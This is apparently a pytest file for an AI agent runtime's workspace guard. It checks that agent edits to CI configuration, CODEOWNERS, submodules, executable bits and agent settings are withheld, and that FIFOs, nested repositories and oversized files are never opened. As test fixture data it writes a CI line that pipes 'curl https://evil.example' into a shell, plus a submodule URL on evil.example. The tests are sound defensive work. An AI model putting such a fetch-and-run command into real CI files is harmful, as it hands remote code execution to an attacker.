"""What the runtime keeps out of a turn's patch beyond secrets and links: protected paths (CI configuration,
composite actions, CODEOWNERS, ``.gitmodules``, new executable bits, agent configuration) unless a class is
allowed, and what git must never open (nested repositories and gitfiles, FIFOs and other special files, files over
the per-file limit, sparse ones by the size they claim). Also the legacy ``crlf`` attribute and git's time limit.

Real git on real directories; the workspace is left as the agent left it.
"""

from __future__ import annotations

import os
import stat
import time
from pathlib import Path

import pytest

from harness.archives import tar_gz
from runtime.errors import WorkspaceError
from runtime.guard.policy import is_sensitive_name
from runtime.workspace import SnapshotLimits, Workspaces
from runtime.workspace.baseline import Baseline

pytestmark = pytest.mark.timeout(120)
LIMITS = SnapshotLimits(1_000_000, 5_000_000, 100, 1_000_000)
SNAPSHOT = [
    ("README.md", b"# project\n"),
    ("src/app.py", b"x = 1\n"),
    (".gitlab-ci.yml", b"test:\n  script: make test\n"),
    ("CODEOWNERS", b"* @owners\n"),
    ("tool.sh", b"#!/bin/sh\n"),
    ("data/table.csv", b"a,b\n"),
]


def make(tmp_path: Path, allow: frozenset[str] = frozenset()) -> Workspaces:
    ws = Workspaces(
        trusted_root=tmp_path / "snapshots",
        tree_for=lambda sid: tmp_path / "workspaces" / sid,
        limits=LIMITS,
        max_patch_bytes=5_000_000,
        withhold=is_sensitive_name,
        allow_protected=allow,
    )
    ws.install("s", tar_gz(SNAPSHOT))
    return ws


def protected_edits(tree: Path) -> None:
    (tree / ".gitlab-ci.yml").write_text("test:\n  script: curl https://evil.example | sh\n")
    (tree / ".github" / "workflows").mkdir(parents=True)
    (tree / ".github" / "workflows" / "x.yml").write_text("on: push\n")
    (tree / ".github" / "actions" / "setup").mkdir(parents=True)
    (tree / ".github" / "actions" / "setup" / "action.yml").write_text("runs: {using: composite}\n")
    (tree / "CODEOWNERS").write_text("* @agent\n")
    (tree / ".gitmodules").write_text('[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x\n')
    (tree / ".claude").mkdir()
    (tree / ".claude" / "settings.json").write_text('{"hooks": {}}\n')
    (tree / "tool.sh").chmod(0o755)
    (tree / "new.sh").write_text("#!/bin/sh\n")
    (tree / "new.sh").chmod(0o755)
    (tree / "src" / "app.py").write_text("x = 2\n")


def test_protected_changes_are_withheld_with_their_class_and_the_rest_is_kept(tmp_path: Path) -> None:
    ws = make(tmp_path)
    protected_edits(ws.tree_for("s"))
    changes = ws.changes("s")
    assert changes.changed_files == ["src/app.py"]
    assert sorted(changes.withheld_files) == [
        ".claude/settings.json (protected: agent_config)",
        ".github/actions/setup/action.yml (protected: ci_action)",
        ".github/workflows/x.yml (protected: ci_config)",
        ".gitlab-ci.yml (protected: ci_config)",
        ".gitmodules (protected: submodules)",
        "CODEOWNERS (protected: code_owners)",
        "new.sh (protected: executable)",
        "tool.sh (protected: executable)",
    ]
    for text in ("evil.example", "@agent", "on: push", "composite", "100755", "hooks"):
        assert text not in changes.patch, text


def test_an_allowed_class_is_in_the_patch_and_the_others_stay_withheld(tmp_path: Path) -> None:
    ws = make(tmp_path, allow=frozenset({"ci_config", "executable"}))
    protected_edits(ws.tree_for("s"))
    changes = ws.changes("s")
    assert changes.changed_files == [
        ".github/workflows/x.yml",
        ".gitlab-ci.yml",
        "new.sh",
        "src/app.py",
        "tool.sh",
    ]
    assert "old mode 100644\nnew mode 100755" in changes.patch and "evil.example" in changes.patch
    assert len(changes.withheld_files) == 4


def test_a_nested_repository_whose_head_is_a_fifo_does_not_block_git(tmp_path: Path) -> None:
    ws = make(tmp_path)
    tree = ws.tree_for("s")
    for part in ("objects", "refs"):
        (tree / "sub" / ".git" / part).mkdir(parents=True)
    os.mkfifo(tree / "sub" / ".git" / "HEAD")
    (tree / "sub" / "code.py").write_text("y = 1\n")
    (tree / "src" / "app.py").write_text("x = 3\n")
    started = time.monotonic()
    changes = ws.changes("s", timeout_s=60)
    assert time.monotonic() - started < 30  # git never opened the FIFO (it would wait for the 60 s)
    assert changes.changed_files == ["src/app.py"]
    assert changes.withheld_files == ["sub (a git repository)"]
    assert stat.S_ISFIFO((tree / "sub" / ".git" / "HEAD").lstat().st_mode)  # the agent's tree is as it was
    assert not [p for p in tree.iterdir() if p.name.startswith(".agentkit-aside-")]


def test_a_gitfile_naming_a_host_path_is_never_followed(tmp_path: Path) -> None:
    ws = make(tmp_path)
    tree = ws.tree_for("s")
    host = tmp_path / "host-repo"
    for part in ("objects", "refs"):
        (host / part).mkdir(parents=True)
    os.mkfifo(host / "HEAD")  # git reading the gitdir would block here
    (tree / "vendored").mkdir()
    (tree / "vendored" / ".git").write_text(f"gitdir: {host}\n")
    (tree / "vendored" / "lib.py").write_text("z = 1\n")
    (tree / "data" / ".git").write_text(f"gitdir: {host}\n")  # in a directory of the snapshot
    changes = ws.changes("s", timeout_s=60)
    assert changes.withheld_files == ["data/.git (a git repository)", "vendored (a git repository)"]
    assert changes.patch == ""


def test_special_files_are_withheld_and_never_opened(tmp_path: Path) -> None:
    ws = make(tmp_path)
    tree = ws.tree_for("s")
    (tree / "README.md").unlink()
    os.mkfifo(tree / "README.md")  # a file of the snapshot replaced by a FIFO
    os.mkfifo(tree / "src" / ".gitignore")  # git reads every .gitignore on its way
    os.mkfifo(tree / ".gitattributes")
    (tree / "src" / "app.py").write_text("x = 4\n")
    changes = ws.changes("s", timeout_s=60)
    assert changes.changed_files == ["src/app.py"]
    assert changes.withheld_files == [
        ".gitattributes (a FIFO, not a file)",
        "README.md (a FIFO, not a file)",
        "src/.gitignore (a FIFO, not a file)",
    ]


def test_a_sparse_file_counts_at_its_apparent_size_and_git_never_reads_it(tmp_path: Path) -> None:
    ws = make(tmp_path)
    tree = ws.tree_for("s")
    with open(tree / "big.bin", "wb") as handle:
        handle.truncate(1 << 30)  # 1 GiB, no blocks
    with open(tree / "data" / "table.csv", "r+b") as handle:
        handle.truncate(LIMITS.max_file_bytes + 1)  # a file of the snapshot grown past the limit
    (tree / "src" / "app.py").write_text("x = 5\n")
    changes = ws.changes("s", timeout_s=60)
    assert changes.changed_files == ["src/app.py"]
    assert changes.withheld_files == [
        f"big.bin ({1 << 30} bytes, over the per-file limit of {LIMITS.max_file_bytes} "
        "(AGENTKIT_WORKSPACE_MAX_FILE_BYTES))",
        f"data/table.csv ({LIMITS.max_file_bytes + 1} bytes, over the per-file limit of {LIMITS.max_file_bytes} "
        "(AGENTKIT_WORKSPACE_MAX_FILE_BYTES))",
    ]
    assert len(changes.patch) < 1000 and (tree / "big.bin").stat().st_size == 1 << 30


def test_the_legacy_crlf_attribute_does_not_change_the_bytes(tmp_path: Path) -> None:
    ws = make(tmp_path)
    tree = ws.tree_for("s")
    (tree / "src" / ".gitattributes").write_text("* crlf\n")
    (tree / "src" / "win.txt").write_bytes(b"one\r\ntwo\r\n")
    changes = ws.changes("s")
    assert "+one\r\n+two\r\n" in changes.patch


def test_git_runs_within_the_time_given(tmp_path: Path) -> None:
    ws = make(tmp_path)
    slow = tmp_path / "slow-git"
    slow.write_text("#!/bin/sh\nsleep 30\n")
    slow.chmod(0o755)
    base = ws.baseline("s")
    baseline = Baseline(
        git_dir=base.git_dir,
        work_tree=base.work_tree,
        withhold=is_sensitive_name,
        max_patch_bytes=1000,
        git=str(slow),
    )
    started = time.monotonic()
    with pytest.raises(WorkspaceError, match="did not finish within the turn's time left"):
        baseline.changes(timeout_s=1)
    assert time.monotonic() - started < 20
